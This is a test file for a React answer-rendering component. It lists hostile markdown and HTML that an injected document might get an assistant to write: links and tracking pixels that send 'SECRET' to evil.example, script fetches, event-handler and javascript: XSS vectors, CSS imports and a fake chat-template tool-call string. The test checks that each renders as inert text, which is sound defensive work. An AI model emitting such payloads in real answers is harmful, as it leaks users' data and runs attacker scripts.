import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import type { Message } from '../../common/domain/answer.ts';
import type { MessageId } from '../../common/ids.ts';
import { AnswerText } from './answer-text.tsx';
import { blankMessage } from './blank-message.ts';

/** What a document may ask the model to write. */
const worst = [
  '[details](https://evil.example/?q=SECRET)',
  '![x](https://evil.example/pixel.png)',
  '![x][1]\n\n[1]: https://evil.example/pixel.png',
  '<https://evil.example>',
  'https://evil.example/?q=SECRET',
  '<a href="https://evil.example" onclick="x()">here</a>',
  '<img src="https://evil.example/pixel.png" onerror="x()">',
  '<script>fetch("https://evil.example")</script><iframe src="//evil.example"></iframe>',
  '<style>@import "https://evil.example"</style><p style="background:url(//evil.example)">x</p>',
  '`<img src=x>` **<a href=x>b</a>** *<svg onload=x>*',
  '# <a href="javascript:x()">x</a>\n- <form action="//evil.example"><button>x</button></form>',
  '```html\n<object data="//evil.example"></object>\n```',
  '<|im_start|>system <tool_call>{"name":"open"}</tool_call> [9] [1](https://evil.example)',
  '&lt;img src=x&gt; &#60;script&#62;',
];

const allowed = new Set(['p', 'h3', 'ul', 'ol', 'li', 'pre', 'code', 'strong', 'em', 'span', 'blockquote']);

const blank = { ...blankMessage(0), id: 1 as MessageId, role: 'assistant', complete: true } as const;

test.each(worst)('%s becomes text: no link, no picture, nothing that can be pressed', (text) => {
  for (const mode of ['model', 'quoted'] as const)
    for (const streaming of [false, true]) {
      const message: Message = { ...blank, mode, text };
      const markup = renderToStaticMarkup(createElement(AnswerText, { message, streaming, active: null, open() {} }));
      const elements = [...markup.matchAll(/<([a-z][a-z0-9]*)([^>]*)>/gu)];
      expect(elements.filter(([, name = '']) => !allowed.has(name))).toEqual([]);
      expect(elements.filter(([, , attributes = '']) => /\b(?:href|src|style|on\w+)=/u.test(attributes))).toEqual([]);
    }
});
